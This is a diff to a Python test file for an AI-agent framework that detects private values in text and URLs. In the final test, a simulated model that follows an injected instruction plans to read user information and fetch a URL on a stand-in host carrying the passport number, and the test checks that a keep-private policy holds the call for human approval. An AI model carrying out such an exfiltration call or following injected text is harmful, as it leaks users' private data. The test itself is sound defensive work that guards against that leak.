@@ -136,6 +136,22 @@ def test_a_private_value_is_found_wherever_it_is_written_whole(secret: str, befo
         assert values.kinds_in(f"{before} {secret} {after}") == {"code"}
 
 
+def test_a_private_value_inside_a_url_is_found() -> None:
+    """A URL is one token, so a value written into its path or query (percent- or
+    plus-encoded too) is found by cutting it at the URL's own delimiters."""
+    values = PrivateValues()
+    values.add(json.dumps({"passport_number": PASSPORT, "name": "Emma Johnson"}),
+               {"passport_number": "passport", "name": "name"})
+    assert values.kinds_in(f"https://x.example/p?n={PASSPORT}&k=1") == {"passport"}
+    assert values.kinds_in(f"https://x.example/{PASSPORT.lower()}/log") == {"passport"}
+    assert values.kinds_in("https://x.example/p?who=Emma+Johnson") == {"name"}
+    assert values.kinds_in("https://x.example/p?who=Emma%20Johnson") == {"name"}
+    assert values.kinds_in({"query": [f"id:{PASSPORT}"]}) == {"passport"}
+    # still whole tokens: not a part of a longer word or number
+    assert values.kinds_in(f"https://x.example/p?n=X{PASSPORT}") == frozenset()
+    assert values.kinds_in("https://x.example/p?who=Emma") == frozenset()
+
+
 def test_private_is_declared_on_tools_and_in_overlays_with_clear_errors() -> None:
     assert dict(ToolMeta(private={"iban": "IBAN"}).private) == {"iban": "iban"}
     with pytest.raises(TypeError, match="one word each"):
@@ -247,3 +263,29 @@ def test_audit_show_names_the_plan_entry_behind_each_side_effect() -> None:
     assert any("plan: asked in" in line for line in leak)  # the same clause: labels stopped it
     _, unasked = run("Read the Riverside reviews.", LEAK[1:], PRIVATE)
     assert "plan: the request does not ask for it" in "\n".join(timeline(unasked.replay()))
+
+
+def test_private_data_in_an_egress_call_without_a_side_effect_waits() -> None:
+    """A URL fetch changes nothing, but its argument leaves: the passport number the session
+    read, put in a fetched URL's query, must wait for a person."""
+    fetched: list[str] = []
+
+    @tool(egress=True)
+    def fetch_url(url: str) -> str:
+        """Fetch a web page."""
+        fetched.append(url)
+        return "ok"
+
+    exfiltrate = [PlannedCall("get_user_information"),
+                  PlannedCall("fetch_url", {"url": f"https://x.example/p?n={PASSPORT}"})]
+    user = [PlannedCall("hotel_reviews", {"hotel": "Riverside"})]
+    agent = Agent(model=obedient_model(user, exfiltrate, injection_text=INJECTION),
+                  tools=[*travel([]), fetch_url], policy=keep_private, approver=deny_all(),
+                  reasoning=ReAct(), store="memory://")
+    session = agent.session("Read the Riverside reviews and tell me what guests say.")
+    session.run()
+    assert not any(PASSPORT in url for url in fetched)
+    waited = [e.data for e in session.replay() if e.type == "tool.decision"
+              and e.data["decision"]["effect"] == "require_approval"]
+    assert [(d["tool"], d["decision"]["policy_id"], d["labels"]) for d in waited] == [
+        ("fetch_url", "keep-private", {"url": ["passport"]})]
